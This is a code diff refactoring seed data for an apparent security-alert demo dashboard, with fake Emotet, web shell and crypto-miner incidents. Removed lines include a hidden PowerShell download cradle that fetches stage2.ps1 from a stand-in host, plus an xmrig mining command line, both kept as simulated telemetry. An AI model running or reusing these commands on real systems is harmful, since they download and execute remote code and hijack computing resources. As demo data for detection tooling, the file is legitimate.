@@ -19,49 +19,8 @@ import {
   SEED_REGISTRY,
   SYSTEM_FILES,
 } from './seed.constants';
-
-export const SEED_USERS = {
-  jdoe: {
-    name: 'jdoe',
-    domain: 'CONTOSODEMO',
-    sid: 'S-1-5-21-3623811015-3361044348-30300820-1013',
-    upn: 'jdoe@contosodemo.onmicrosoft.com',
-    aadUserId: '2ac2c076-352e-44d0-8535-a7e09d20e844',
-  },
-  asmith: {
-    name: 'asmith',
-    domain: 'CONTOSODEMO',
-    sid: 'S-1-5-21-3623811015-3361044348-30300820-1027',
-    upn: 'asmith@contosodemo.onmicrosoft.com',
-    aadUserId: '4f8589b5-d30b-4071-a005-8849ab6d267f',
-  },
-  admAsmith: {
-    name: 'adm-asmith',
-    domain: 'CONTOSODEMO',
-    sid: 'S-1-5-21-3623811015-3361044348-30300820-2104',
-    upn: null,
-    aadUserId: null,
-  },
-  system: { name: 'system', domain: 'nt authority', sid: 'S-1-5-18', upn: null, aadUserId: null },
-  iisPool: { name: 'DefaultAppPool', domain: 'IIS APPPOOL', sid: 'S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415', upn: null, aadUserId: null },
-  builder: { name: 'builder', domain: 'lnx-build-03', sid: 'S-1-5-21-1000', upn: null, aadUserId: null },
-  mlopez: {
-    name: 'mlopez',
-    domain: 'mac-design-07',
-    sid: 'S-1-5-21-501',
-    upn: 'mlopez@contosodemo.onmicrosoft.com',
-    aadUserId: '7ee8cc7b-a3a9-42a7-ae94-c081862f9e1d',
-  },
-} as const;
-
-const DNS = {
-  win10: 'fin-wks-017.corp.contosodemo.example',
-  win11: 'dev-lt-042.corp.contosodemo.example',
-  server2019: 'srv-file-01.corp.contosodemo.example',
-  server2022: 'srv-web-02.dmz.contosodemo.example',
-  linux: 'lnx-build-03.corp.contosodemo.example',
-  macos: 'mac-design-07.corp.contosodemo.example',
-};
+import { seedMachine } from './machines.seed';
+import { SEED_PROCESSES, SEED_USERS } from './processes.seed';
 
 type AlertInput = Omit<
   Alert,
@@ -126,27 +85,6 @@ function alert(a: AlertInput): Alert {
   };
 }
 
-const dropperFolder = 'C:\\Users\\jdoe\\Downloads';
-const dropperProcess = {
-  file: SEED_FILES.emotetDropper,
-  folder: dropperFolder,
-  processId: 7412,
-  commandLine: '"invoice_2026_11.pdf.exe"',
-  created: ago(3048),
-  parent: { fileName: 'OUTLOOK.EXE', folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16', processId: 5120, created: ago(3190) },
-  account: SEED_USERS.jdoe,
-};
-const cradleProcess = {
-  file: SYSTEM_FILES.powershell,
-  folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
-  processId: 9936,
-  commandLine:
-    'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://badcdn-delivery.example/payload/stage2.ps1\')"',
-  created: ago(1562),
-  parent: { fileName: 'explorer.exe', folder: 'C:\\Windows', processId: 4388, created: ago(2100) },
-  account: SEED_USERS.asmith,
-};
-
 export const DEMO_ALERTS: Alert[] = [
   // Emotet dropper on the finance workstation (A1–A3, one incident).
   alert({
@@ -167,13 +105,13 @@ export const DEMO_ALERTS: Alert[] = [
     lastEventTime: ago(3047.9),
     lastUpdateTime: ago(3044),
     machineId: DEMO_MACHINE_IDS.win10,
-    computerDnsName: DNS.win10,
+    computerDnsName: seedMachine(DEMO_MACHINE_IDS.win10).computerDnsName,
     rbacGroupName: 'Finance',
     mitreTechniques: ['T1204.002', 'T1566.001'],
     relatedUser: { userName: 'jdoe', domainName: 'CONTOSODEMO' },
     evidence: [
-      fileEvidence(ago(3045), SEED_FILES.emotetDropper, dropperFolder),
-      processEvidence(ago(3045), dropperProcess),
+      fileEvidence(ago(3045), SEED_FILES.emotetDropper, SEED_PROCESSES.dropper.folder),
+      processEvidence(ago(3045), SEED_PROCESSES.dropper),
       userEvidence(ago(3045), SEED_USERS.jdoe),
       evidence('Registry', ago(3045), {
         registryHive: SEED_REGISTRY.hive,
@@ -204,7 +142,7 @@ export const DEMO_ALERTS: Alert[] = [
     lastUpdateTime: ago(2600),
     resolvedTime: ago(2600),
     machineId: DEMO_MACHINE_IDS.win10,
-    computerDnsName: DNS.win10,
+    computerDnsName: seedMachine(DEMO_MACHINE_IDS.win10).computerDnsName,
     rbacGroupName: 'Finance',
     mitreTechniques: [],
     relatedUser: { userName: 'jdoe', domainName: 'CONTOSODEMO' },
@@ -216,7 +154,7 @@ export const DEMO_ALERTS: Alert[] = [
       },
     ],
     evidence: [
-      fileEvidence(ago(2700), SEED_FILES.emotetDropper, dropperFolder, 'Prevented'),
+      fileEvidence(ago(2700), SEED_FILES.emotetDropper, SEED_PROCESSES.dropper.folder, 'Prevented'),
       fileEvidence(ago(2700), SEED_FILES.emotetDropper, 'C:\\Users\\jdoe\\AppData\\Roaming\\OneDriveSync', 'Prevented'),
     ],
   }),
@@ -237,12 +175,12 @@ export const DEMO_ALERTS: Alert[] = [
     lastEventTime: ago(2820),
     lastUpdateTime: ago(2800),
     machineId: DEMO_MACHINE_IDS.win10,
-    computerDnsName: DNS.win10,
+    computerDnsName: seedMachine(DEMO_MACHINE_IDS.win10).computerDnsName,
     rbacGroupName: 'Finance',
     mitreTechniques: ['T1071.001'],
     relatedUser: { userName: 'jdoe', domainName: 'CONTOSODEMO' },
     evidence: [
-      processEvidence(ago(3040), dropperProcess),
+      processEvidence(ago(3040), SEED_PROCESSES.dropper),
       ipEvidence(ago(3040), SEED_NETWORK.c2Ip),
     ],
   }),
@@ -263,14 +201,14 @@ export const DEMO_ALERTS: Alert[] = [
     lastEventTime: ago(1561),
     lastUpdateTime: ago(1557),
     machineId: DEMO_MACHINE_IDS.win11,
-    computerDnsName: DNS.win11,
+    computerDnsName: seedMachine(DEMO_MACHINE_IDS.win11).computerDnsName,
     rbacGroupName: 'Engineering',
     mitreTechniques: ['T1071.001', 'T1105'],
     relatedUser: { userName: 'asmith', domainName: 'CONTOSODEMO' },
     evidence: [
       urlEvidence(ago(1558), `http://${SEED_NETWORK.payloadDomain}/payload/stage2.ps1`),
       ipEvidence(ago(1558), SEED_NETWORK.c2Ip),
-      processEvidence(ago(1558), cradleProcess),
+      processEvidence(ago(1558), SEED_PROCESSES.cradle),
     ],
   }),
   alert({
@@ -289,12 +227,12 @@ export const DEMO_ALERTS: Alert[] = [
     lastEventTime: ago(1560),
     lastUpdateTime: ago(1550),
     machineId: DEMO_MACHINE_IDS.win11,
-    computerDnsName: DNS.win11,
+    computerDnsName: seedMachine(DEMO_MACHINE_IDS.win11).computerDnsName,
     rbacGroupName: 'Engineering',
     mitreTechniques: ['T1059.001', 'T1105'],
     relatedUser: { userName: 'asmith', domainName: 'CONTOSODEMO' },
     evidence: [
-      processEvidence(ago(1555), cradleProcess),
+      processEvidence(ago(1555), SEED_PROCESSES.cradle),
       fileEvidence(ago(1555), SEED_FILES.svcUpdater, 'C:\\ProgramData\\SvcUpdater'),
       urlEvidence(ago(1555), `https://${SEED_NETWORK.payloadSubdomain}/u/svc-updater.dll`),
       userEvidence(ago(1555), SEED_USERS.asmith),
@@ -318,7 +256,7 @@ export const DEMO_ALERTS: Alert[] = [
     lastEventTime: ago(1499),
     lastUpdateTime: ago(1100),
     machineId: DEMO_MACHINE_IDS.server2019,
-    computerDnsName: DNS.server2019,
+    computerDnsName: seedMachine(DEMO_MACHINE_IDS.server2019).computerDnsName,
     rbacGroupName: 'Servers',
     mitreTechniques: ['T1543.003', 'T1021.002'],
     relatedUser: { userName: 'adm-asmith', domainName: 'CONTOSODEMO' },
@@ -387,21 +325,13 @@ export const DEMO_ALERTS: Alert[] = [
     lastEventTime: ago(600),
     lastUpdateTime: ago(590),
     machineId: DEMO_MACHINE_IDS.server2022,
-    computerDnsName: DNS.server2022,
+    computerDnsName: seedMachine(DEMO_MACHINE_IDS.server2022).computerDnsName,
     rbacGroupName: 'Servers',
     mitreTechniques: ['T1505.003'],
     relatedUser: { userName: 'DefaultAppPool', domainName: 'IIS APPPOOL' },
     evidence: [
       fileEvidence(ago(4290), SEED_FILES.webShell, 'C:\\inetpub\\wwwroot\\aspnet_client'),
-      processEvidence(ago(4290), {
-        file: SYSTEM_FILES.w3wp,
-        folder: 'C:\\Windows\\System32\\inetsrv',
-        processId: 2604,
-        commandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"',
-        created: ago(9000),
-        parent: { fileName: 'svchost.exe', folder: 'C:\\Windows\\System32', processId: 1180, created: ago(20_000) },
-        account: SEED_USERS.iisPool,
-      }),
+      processEvidence(ago(4290), SEED_PROCESSES.w3wp),
     ],
   }),
   // Crypto miner on the Linux build host.
@@ -421,20 +351,12 @@ export const DEMO_ALERTS: Alert[] = [
     lastEventTime: ago(700),
     lastUpdateTime: ago(705),
     machineId: DEMO_MACHINE_IDS.linux,
-    computerDnsName: DNS.linux,
+    computerDnsName: seedMachine(DEMO_MACHINE_IDS.linux).computerDnsName,
     rbacGroupName: 'Engineering',
     mitreTechniques: ['T1496'],
     relatedUser: { userName: 'builder', domainName: 'lnx-build-03' },
     evidence: [
-      processEvidence(ago(710), {
-        file: SEED_FILES.xmrig,
-        folder: '/tmp/.cache',
-        processId: 48211,
-        commandLine: `/tmp/.cache/xmrig -o stratum+tcp://${SEED_NETWORK.miningPoolDomain}:3333 --donate-level 1`,
-        created: ago(716),
-        parent: { fileName: 'bash', folder: '/usr/bin', processId: 48190, created: ago(717) },
-        account: SEED_USERS.builder,
-      }),
+      processEvidence(ago(710), SEED_PROCESSES.xmrig),
       ipEvidence(ago(710), SEED_NETWORK.miningPoolIp),
       urlEvidence(ago(710), SEED_NETWORK.miningPoolDomain),
     ],
@@ -461,7 +383,7 @@ export const DEMO_ALERTS: Alert[] = [
     lastUpdateTime: ago(4800),
     resolvedTime: ago(4800),
     machineId: DEMO_MACHINE_IDS.macos,
-    computerDnsName: DNS.macos,
+    computerDnsName: seedMachine(DEMO_MACHINE_IDS.macos).computerDnsName,
     rbacGroupName: 'Design',
     mitreTechniques: [],
     relatedUser: { userName: 'mlopez', domainName: 'mac-design-07' },
@@ -497,20 +419,6 @@ export const OTHER_ALERTS: Alert[] = [
     ],
   }),
 ];
-
-const FLEET_DNS: Record<string, string> = {
-  [DEMO_MACHINE_IDS.win10]: DNS.win10,
-  [DEMO_MACHINE_IDS.win11]: DNS.win11,
-  [DEMO_MACHINE_IDS.server2019]: DNS.server2019,
-  [DEMO_MACHINE_IDS.server2022]: DNS.server2022,
-  [DEMO_MACHINE_IDS.linux]: DNS.linux,
-  [DEMO_MACHINE_IDS.macos]: DNS.macos,
-  [DEMO_FLEET_IDS.hrWorkstation]: 'hr-wks-031.corp.contosodemo.example',
-  [DEMO_FLEET_IDS.sqlServer]: 'srv-sql-04.corp.contosodemo.example',
-  [DEMO_FLEET_IDS.posTerminal]: 'pos-store-07.retail.contosodemo.example',
-  [DEMO_FLEET_IDS.labVm]: 'lab-vm-12.lab.contosodemo.example',
-  [DEMO_FLEET_IDS.kiosk]: 'kiosk-lobby-01.corp.contosodemo.example',
-};
 
 type HistoryRow = [minutesAgo: number, severity: Alert['severity'], status: Alert['status'], detectionSource: string, category: string, title: string, machineId: string];
 
@@ -578,7 +486,7 @@ export const DEMO_ALERT_HISTORY: Alert[] = HISTORY.map(([minutesAgo, severity, s
     lastEventTime: ago(minutesAgo + 1),
     lastUpdateTime: ago(Math.max(minutesAgo - 5, 0.5)),
     machineId,
-    computerDnsName: FLEET_DNS[machineId],
+    computerDnsName: seedMachine(machineId).computerDnsName,
     rbacGroupName: null,
     mitreTechniques: [],
     relatedUser: { userName: user.name, domainName: user.domain },
